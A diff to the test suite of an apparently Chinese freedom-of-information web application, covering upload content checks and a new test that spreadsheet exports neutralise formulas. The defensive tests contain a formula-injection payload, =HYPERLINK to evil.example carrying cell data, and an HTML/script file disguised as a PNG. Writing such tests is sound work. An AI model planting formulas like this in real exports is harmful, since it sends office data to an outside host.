@@ -97,10 +97,10 @@ def test_upload_checked_by_content(client, county):
 
     fake = SimpleUploadedFile("id.png", b"<html><script>alert(1)</script></html>", content_type="image/png")
     r = client.post("/ysqgk/new/", form_data(person(), id_proof=fake))
-    assert r.status_code == 400 and "不是PDF、JPG或PNG文件" in r.content.decode()
+    assert r.status_code == 400 and "内容不是 PNG 图片（实际是网页）" in r.content.decode()
     renamed = SimpleUploadedFile("id.pdf", PNG, content_type="application/pdf")
     r = client.post("/ysqgk/new/", form_data(person(), id_proof=renamed))
-    assert "扩展名与文件内容不符" in r.content.decode()
+    assert "但内容不是 PDF 文件（实际是 PNG 图片）" in r.content.decode()
     assert not InfoRequest.objects.exists()
 
 
@@ -343,3 +343,18 @@ def test_a_refused_action_is_shown_beside_its_field(client, county, today):
     login(client, county.leader)
     r = client.post(reverse("foi:act", args=[case.pk, "extension"]), {"days": "5", "reason": "x"})
     assert r.status_code == 403
+
+
+def test_export_writes_an_applicants_formula_as_text(client, county, today):
+    """An applicant's ``=HYPERLINK(…)`` must not become a live formula in the office's spreadsheet."""
+    from openpyxl import load_workbook
+
+    today(D(2026, 10, 20))
+    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
+    case = make_case(county).case
+    InfoRequest.objects.filter(pk=case.pk).update(description=payload)
+    login(client, county.officer)
+    sheet = load_workbook(io.BytesIO(client.get(reverse("foi:export")).content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert "'" + payload in [cell.value for cell in cells]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
